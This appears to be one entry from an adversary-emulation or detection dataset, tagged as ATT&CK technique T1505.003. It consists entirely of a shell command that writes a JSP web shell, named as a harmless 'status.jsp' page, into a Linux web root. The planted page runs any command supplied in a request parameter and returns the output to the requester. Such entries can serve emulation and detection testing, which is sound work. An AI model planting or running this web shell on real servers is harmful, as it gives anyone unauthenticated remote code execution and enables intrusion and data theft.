# technique: T1505.003
# location: linux.web.script
# source: /var/www/html/app/status.jsp
install -D -m 644 /dev/stdin /var/www/html/app/status.jsp <<< '<%@ page import="java.io.*" %><% String c = request.getParameter("c");
if (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"sh","-c",c}); p.getInputStream().transferTo(response.getOutputStream()); } %>'
